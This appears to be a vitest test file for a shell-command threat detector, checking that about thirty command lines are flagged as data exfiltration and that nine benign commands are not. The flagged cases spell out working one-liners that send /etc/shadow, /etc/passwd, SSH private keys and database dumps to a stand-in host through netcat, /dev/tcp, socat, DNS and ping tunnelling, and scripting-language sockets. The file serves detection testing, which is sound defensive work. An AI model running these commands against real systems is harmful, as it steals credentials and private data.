// Data that leaves is found by what is sent and how; ordinary downloads, calls of interfaces and deployments are not.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  'cat /etc/passwd | nc 10.9.8.7 9001',
  'nc -q0 10.9.8.7 9001 < /srv/db.dump',
  'openssl s_client -quiet -connect 10.9.8.7:443 < /etc/shadow',
  "bash -c 'cat /srv/secret.csv > /dev/tcp/10.9.8.7/9001'",
  'bash -c \'echo -n "$(<"/srv/secret.csv")" > /dev/tcp/10.9.8.7/80\'',
  'for c in $(xxd -p /etc/passwd); do dig $c.t.example.org; done',
  'base64 -w 60 /srv/a.txt | while read l; do nslookup $l.t.example.org; done',
  'dig @10.9.8.7 "$(base64 -w0 /etc/hostname).t.example.org"',
  'xxd -p -c 16 /etc/passwd | while read l; do ping -c 1 -p $l 10.9.8.7; done',
  'whois -h 10.9.8.7 -p 43 "$(cat /etc/passwd)"',
  'finger "$(base64 /etc/passwd)@10.9.8.7"',
  'socat -u FILE:/etc/shadow TCP:10.9.8.7:9001',
  'socat -u file:/srv/dump.sql tcp-connect:10.9.8.7:9001',
  'busybox httpd -f -p 8000 -h /srv',
  'ruby -run -e httpd . -p 8000',
  'php -S 0.0.0.0:8000 -t /etc',
  'python3 -c \'import requests;requests.post("http://10.9.8.7",data=open("/etc/passwd").read())\'',
  'perl -MIO::Socket -e \'$s=new IO::Socket::INET("10.9.8.7:1");open(F,"/etc/passwd");print $s <F>\'',
  'ruby -rsocket -e \'TCPSocket.new("10.9.8.7",1).write(File.read("/etc/passwd"))\'',
  'lua -e \'local f=io.open("/etc/passwd");local s=require("socket");local t=s.tcp();t:connect("10.9.8.7",1);t:send(f:read("*a"))\'',
  'node -e \'require("fs").createReadStream("/etc/passwd").pipe(require("http").request({host:"10.9.8.7",method:"POST"}))\'',
  'php -r \'$s=fsockopen("10.9.8.7",1);fwrite($s,file_get_contents("/etc/passwd"));\'',
  'mail -s keys a@example.org < /root/.ssh/id_rsa',
  "tar czf - /root | openssl enc -aes-256-cbc -k x | ssh u@10.9.8.7 'cat > x'",
  "ssh -p 2222 u@10.9.8.7 'cat > k' < /home/ana/.ssh/id_ed25519",
  'ab -p /etc/passwd http://10.9.8.7/',
  'tar cf u@10.9.8.7:/x.tar /etc/shadow --rsh-command=/bin/ssh',
  'mysqldump --all-databases | nc 10.9.8.7 4444',
  'julia -e \'using Sockets; s=connect("10.9.8.7",1);write(s,read("/etc/passwd"))\'',
  "ksh -c 'cat /etc/passwd > /dev/tcp/10.9.8.7/1'",
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true });
});

test('the category is its own', () => {
  expect(judgeLine('cat /etc/passwd | nc 10.9.8.7 9001').category).toBe('data_exfiltration');
});

test.each([
  'tar czf backup.tgz /etc',
  "ssh web1 'tar czf - /srv' > srv.tgz",
  'dig example.org +short',
  'ping -c 1 10.0.0.1',
  'nc -zv db 5432',
  "mysql -e 'select 1' < /dev/null",
  'python3 -m http.server 8000',
  'openssl s_client -connect example.org:443 < /dev/null',
  'cat access.log | grep 500',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
